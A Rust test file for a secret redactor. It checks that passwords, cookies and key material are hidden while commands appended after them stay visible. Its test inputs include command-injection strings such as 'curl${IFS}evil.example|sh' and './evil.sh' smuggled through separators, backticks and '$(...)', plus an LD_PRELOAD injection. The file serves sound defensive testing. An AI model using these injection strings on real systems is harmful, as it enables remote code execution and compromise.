//! Tests of the end of a value: disguised commands stay visible, passwords do not.

use super::super::{Mark, Redactor};

fn record(text: &str) -> String {
    Redactor::default().text(text, Mark::Record).left
}

#[test]
fn guess_ends_where_a_shell_ends_the_value() {
    for (text, left) in [
        ("mysql -pz1;curl${IFS}evil.example|sh", ";curl${IFS}evil.example|sh"),
        ("sshpass -pz1;./evil.sh", ";./evil.sh"),
        ("curl -u a:b;./evil.sh", ";./evil.sh"),
        ("curl -u a:b&&./evil.sh", "&&./evil.sh"),
        ("curl https://a:b;sh${IFS}evil.sh;true@h", ";sh${IFS}evil.sh;true@h"),
        ("PASSWORD=\"x$(./evil.sh)\"", "$(./evil.sh)\""),
        ("PASSWORD=\"x`./evil.sh`\"", "`./evil.sh`\""),
        ("PASSWORD='x\\';./evil.sh;''", "';./evil.sh;''"),
        ("PASSWORD=\\\"x;./evil.sh;\\\"", ";./evil.sh;\\\""),
        ("tool --token z1`./evil.sh`", "`./evil.sh`"),
        ("curl -H Cookie:a=1;./evil.sh", ";./evil.sh"),
        ("Cookie: a=1; LD_PRELOAD=./evil.so", "; LD_PRELOAD=./evil.so"),
        ("curl -H Authorization:x1x2x3x4|./evil.sh", "|./evil.sh"),
        ("-----BEGIN PRIVATE KEY-----; ./evil.sh", "; ./evil.sh"),
    ] {
        let found = Redactor::default().text(text, Mark::Record);
        assert!(found.left.ends_with(&format!("›{left}")), "{text}: {}", found.left);
        assert_eq!(found.hidden, 1, "{text}: {}", found.left);
    }
    for (text, secret) in [
        ("curl -u 'me:a;b|c' x", "b|c"),
        ("psql \"postgres://me:a&b@c/d\"", "b@"),
        ("PASSWORD=\"a`b;c\"", "b;c"),
        ("password='a;b|c'", "b|c"),
        ("{\"password\": \"a(b;c\"}", "b;c"),
        ("curl -H 'Cookie: a=1; b=2' x", "b=2"),
        ("Cookie: a=1; JSESSIONID=2; c=3", "c=3"),
    ] {
        assert!(!record(text).contains(secret), "{text}: {}", record(text));
    }
    let key = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ";
    let code =
        format!("x = \"-----BEGIN {0} KEY-----\\n\"\n  \"{key}\\n\"\n  \"-----END {0} KEY-----\"", "PRIVATE");
    assert!(!record(&code).contains(key), "{}", record(&code));
}
